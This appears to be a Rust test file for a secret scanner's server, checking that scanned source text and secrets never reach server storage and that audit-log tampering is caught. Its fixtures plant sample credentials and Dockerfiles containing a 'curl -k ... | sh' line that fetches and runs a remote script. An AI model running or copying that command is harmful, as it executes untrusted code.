//! `ferret serve` as a real process: the canary test (nothing but redacted metadata reaches the
//! server's disk or logs), `scan --upload`, and `ferret admin audit verify/export`.

mod common;

use common::server::{all_bytes_under, call, contains, onboard, start};
use common::{ferret, github_token, stripe_key};
use serde_json::Value;
use std::ffi::OsStr;
use std::path::Path;
use std::process::Output;

/// `ferret admin audit ARGS…`.
fn audit(args: &[&OsStr]) -> Output {
    ferret()
        .args(["admin", "audit"])
        .args(args)
        .output()
        .unwrap()
}

/// [`audit`] run in `dir`.
fn audit_in(dir: &Path, args: &[&OsStr]) -> Output {
    ferret()
        .args(["admin", "audit"])
        .args(args)
        .current_dir(dir)
        .output()
        .unwrap()
}

#[test]
fn canary_nothing_but_redacted_metadata_reaches_the_server() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let log = tmp.path().join("server.log");
    let server = start(&data, &log);
    let (ws, token) = onboard(&server.url);

    // A repository whose every file holds a unique marker (and most hold a secret).
    let repo = tmp.path().join("app");
    std::fs::create_dir_all(repo.join("src")).unwrap();
    let mut markers = Vec::new();
    let secrets = [
        github_token(),
        stripe_key(),
        format!("AKIA{}", "Z7QX3LMB5TKP2WRD"),
    ];
    for i in 0..12 {
        let marker = format!(
            "FERRETCANARY{i:02}{}",
            ferret_server::crypto::random_alnum(12)
        );
        let body = match i % 4 {
            0 => format!("# {marker}\nGITHUB_TOKEN = \"{}\"\n", secrets[0]),
            1 => format!("// {marker}\nconst stripe = \"{}\";\n", secrets[1]),
            2 => {
                format!("FROM ubuntu:latest\n# {marker}\nRUN curl -k https://x.example/i.sh | sh\n")
            }
            _ => format!("{marker}\naws_access_key_id = {}\n", secrets[2]),
        };
        let name = if i % 4 == 2 {
            format!("src/{i}/Dockerfile")
        } else {
            format!("src/file{i}.txt")
        };
        std::fs::create_dir_all(repo.join(&name).parent().unwrap()).unwrap();
        std::fs::write(repo.join(&name), body).unwrap();
        markers.push(marker);
    }

    let out = ferret()
        .args([
            "scan",
            "--no-progress",
            "--show-secrets",
            "--format",
            "json",
            "--upload",
            &server.url,
            "--upload-repository",
            "app",
            "--upload-branch",
            "main",
        ])
        .arg(&repo)
        .env("FERRET_TOKEN", &token)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("uploaded"), "{stderr}");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let uploaded = report["findings"].as_array().unwrap().len();
    assert!(uploaded >= 12, "{uploaded}");

    let (status, list, _) = call(
        &format!("{}/api/workspaces/{ws}/findings?per_page=500", server.url),
        "GET",
        &[("authorization", &format!("Bearer {token}"))],
        None,
    );
    assert_eq!(status, 200);
    assert_eq!(list["total"].as_u64(), Some(uploaded as u64));

    // Stop the server so every byte is flushed, then search everything it wrote.
    drop(server);
    let mut files = Vec::new();
    all_bytes_under(&data, &mut files);
    files.push(("server.log".into(), std::fs::read(&log).unwrap()));
    assert!(files.len() >= 2);
    for (path, bytes) in &files {
        for marker in &markers {
            assert!(
                !contains(bytes, marker),
                "{path} holds source text ({marker})"
            );
        }
        for secret in &secrets {
            assert!(!contains(bytes, &secret[6..]), "{path} holds a secret");
        }
        assert!(!contains(bytes, &token), "{path} holds the API token");
        assert!(!contains(bytes, &token[11..]), "{path} holds the API token");
    }

    // The key file and data directory are private.
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&data.join("server.key")), 0o600);
    assert_eq!(mode(&data), 0o700);
}

#[test]
fn audit_log_verifies_exports_and_catches_tampering() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let server = start(&data, &tmp.path().join("server.log"));
    onboard(&server.url);
    drop(server);

    let verify = audit(&[
        OsStr::new("verify"),
        OsStr::new("--data-dir"),
        data.as_os_str(),
    ]);
    assert!(
        verify.status.success(),
        "{}",
        String::from_utf8_lossy(&verify.stderr)
    );
    assert!(String::from_utf8_lossy(&verify.stdout).contains("intact"));

    let export = tmp.path().join("audit.jsonl");
    let out = audit(&[
        OsStr::new("export"),
        OsStr::new("--data-dir"),
        data.as_os_str(),
        OsStr::new("-o"),
        export.as_os_str(),
    ]);
    assert!(out.status.success());
    let text = std::fs::read_to_string(&export).unwrap();
    assert!(text.lines().count() >= 5, "{text}");
    assert!(audit(&[
        OsStr::new("verify"),
        OsStr::new("--file"),
        export.as_os_str()
    ])
    .status
    .success());
    // Hand-edit the export: verification with the server's key fails and names the entry;
    // without the key it says the seals were not checked.
    std::fs::write(&export, text.replacen("login.success", "login.failure", 1)).unwrap();
    let out = audit(&[
        OsStr::new("verify"),
        OsStr::new("--file"),
        export.as_os_str(),
        OsStr::new("--data-dir"),
        data.as_os_str(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("was modified"));
    let out = audit_in(
        tmp.path(),
        &[
            OsStr::new("verify"),
            OsStr::new("--file"),
            export.as_os_str(),
        ],
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("does not hold"));
    // A dropped last line (the head) or first entry, and an empty file, fail.
    let lines: Vec<&str> = text.lines().collect();
    for broken in [
        lines[..lines.len() - 1].join("\n"),
        lines[1..].join("\n"),
        String::new(),
    ] {
        std::fs::write(&export, broken).unwrap();
        let out = audit(&[
            OsStr::new("verify"),
            OsStr::new("--file"),
            export.as_os_str(),
        ]);
        assert_eq!(out.status.code(), Some(1));
    }
    // A missing data directory is an error, not an empty "intact" log.
    let out = audit(&[
        OsStr::new("verify"),
        OsStr::new("--data-dir"),
        tmp.path().join("nowhere").as_os_str(),
    ]);
    assert_eq!(out.status.code(), Some(2));
    assert!(!tmp.path().join("nowhere").exists());

    // A checkpoint anchors the log outside the database: rolling back the tail is caught.
    let out = audit(&[
        OsStr::new("checkpoint"),
        OsStr::new("--data-dir"),
        data.as_os_str(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(data.join("audit-checkpoints.jsonl").is_file());

    // Roll the log back: drop the newest entries and move the head to the survivor.
    // The shorter chain is consistent on its own; the checkpoint outside the database is not.
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let url = format!("sqlite://{}/ferret.db", data.display());
        let db = ferret_server::db::Db::connect(&url, 1).await.unwrap();
        db.execute_raw("DELETE FROM audit_log WHERE seq > 2")
            .await
            .unwrap();
        db.execute_raw(
            "UPDATE audit_head SET seq = 2, hash = (SELECT hash FROM audit_log WHERE seq = 2)",
        )
        .await
        .unwrap();
    });
    let out = audit(&[
        OsStr::new("verify"),
        OsStr::new("--data-dir"),
        data.as_os_str(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("checkpoint"), "{err}");

    // Hand-edit the database: verification fails.
    rt.block_on(async {
        let url = format!("sqlite://{}/ferret.db", data.display());
        let db = ferret_server::db::Db::connect(&url, 1).await.unwrap();
        db.execute_raw("UPDATE audit_log SET ip = '203.0.113.9' WHERE seq = 2")
            .await
            .unwrap();
    });
    let out = audit(&[
        OsStr::new("verify"),
        OsStr::new("--data-dir"),
        data.as_os_str(),
    ]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("entry 2 was modified"));
}

#[test]
fn upload_errors_are_one_line_and_nonzero() {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join("a.txt"), "nothing here\n").unwrap();
    let out = ferret()
        .args(["scan", "--upload", "http://127.0.0.1:9"])
        .arg(tmp.path())
        .env_remove("FERRET_TOKEN")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("FERRET_TOKEN"));
    let out = ferret()
        .args([
            "scan",
            "--upload",
            "http://127.0.0.1:9",
            "--upload-repository",
            "x",
        ])
        .arg(tmp.path())
        .env("FERRET_TOKEN", "ferret_pat_x")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
}
